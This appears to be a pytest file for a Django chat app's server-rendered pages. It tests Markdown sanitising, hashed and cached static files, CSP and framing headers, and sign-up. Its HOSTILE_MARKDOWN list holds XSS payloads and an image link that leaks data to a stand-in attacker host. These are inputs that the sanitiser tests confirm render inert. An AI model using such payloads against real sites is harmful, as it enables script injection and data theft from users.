"""Server-rendered pages: sign-up, the Markdown sanitiser, static files and security headers."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import httpx
import pytest
from django.contrib.auth import get_user_model

from conversations.markdown import render_markdown
from tests.helpers import session_client, sign_up

HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "![pixel](https://attacker.example/leak?data=secret)",
    "<iframe src=https://attacker.example></iframe>",
    '<svg onload="alert(1)"></svg>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]


class TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = TagCollector()
    collector.feed(html)
    return collector.tags


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_markdown_renders_hostile_input_inert(source):
    tags = elements(render_markdown(source))

    assert {tag for tag, _ in tags} <= {"p", "a"}
    for _, attrs in tags:
        assert not [name for name in attrs if name.startswith("on")]
        href = (attrs.get("href") or "").strip().lower()
        assert href == "" or href.startswith(("http://", "https://", "mailto:"))


def test_markdown_keeps_formatting_code_blocks_and_safe_links():
    html = render_markdown(
        "# Title\n\n**bold** _em_ `x < y`\n\n```python\nprint('<hi>')\n```\n\n"
        "- one\n- two\n\n[docs](https://example.org/a?b=1)"
    )

    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html
    assert "<code>x &lt; y</code>" in html
    assert "<pre><code class=\"language-python\">print('&lt;hi&gt;')" in html
    assert "<li>one</li>" in html
    assert '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow">docs</a>' in html


def test_static_files_are_served_hashed_compressed_and_long_cached(server, user):
    with session_client(server.url, user) as client:
        page = client.get("/")
        script = re.search(r'src="(/static/conversations/chat\.[0-9a-f]{12}\.js)"', page.text)
        stylesheet = re.search(r'href="(/static/conversations/chat\.[0-9a-f]{12}\.css)"', page.text)
        assert script and stylesheet, page.text
        js = client.get(script.group(1), headers={"Accept-Encoding": "gzip"})

    assert js.status_code == 200
    assert js.headers["content-encoding"] == "gzip"
    assert "max-age=315360000" in js.headers["cache-control"]
    assert "immutable" in js.headers["cache-control"]
    assert "SSEParser" in js.text


def test_the_chat_pages_modules_import_each_other_by_their_hashed_names(server, user):
    """A deploy cannot pair a cached module with a newer one it imports: every relative
    import in the served modules names a hashed file, and each one is served."""
    with session_client(server.url, user) as client:
        page = client.get("/")
        entry = re.search(r'src="(/static/conversations/chat\.[0-9a-f]{12}\.js)"', page.text)
        assert entry, page.text
        seen, pending = set(), [entry.group(1)]
        while pending:
            path = pending.pop()
            seen.add(path)
            module = client.get(path)
            assert module.status_code == 200, path
            folder = path.rsplit("/", 1)[0]
            for name in re.findall(r"""(?:from|import)\s*["']\./([^"']+)["']""", module.text):
                assert re.fullmatch(r"[\w./-]+\.[0-9a-f]{12}\.m?js", name), (path, name)
                if f"{folder}/{name}" not in seen:
                    pending.append(f"{folder}/{name}")

    assert len(seen) > 1, "chat.js imports no module: nothing was checked"


def test_pages_forbid_inline_script_and_framing(server, user):
    with session_client(server.url, user) as client:
        response = client.get("/")

    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy
    assert "<script>" not in response.text
    assert response.headers["x-frame-options"] == "DENY"


def test_chat_pages_require_sign_in(server):
    for path in ("/", "/c/1/", "/c/1/messages/1/"):
        response = httpx.get(server.url + path)
        assert response.status_code == 302
        assert response.headers["location"].startswith("/accounts/login/")


def test_a_visitor_can_sign_up_and_lands_signed_in_on_the_chat_page(server):
    with httpx.Client(base_url=server.url) as client:
        signed_up = sign_up(client, "newcomer", "a sufficiently long passphrase 42")
        home = client.get("/")

    assert signed_up.status_code == 302, signed_up.text
    assert home.status_code == 200
    assert "newcomer" in home.text and 'id="composer"' in home.text
    assert get_user_model().objects.filter(username="newcomer").exists()


def test_sign_up_can_be_turned_off(start_server, transactional_db):
    server = start_server("no-signup", CHAT_SIGNUP_ENABLED="0")

    response = httpx.get(server.url + "/accounts/signup/")

    assert response.status_code == 404
    assert not get_user_model().objects.filter(username="intruder").exists()
    assert "Create one" not in httpx.get(server.url + "/accounts/login/").text
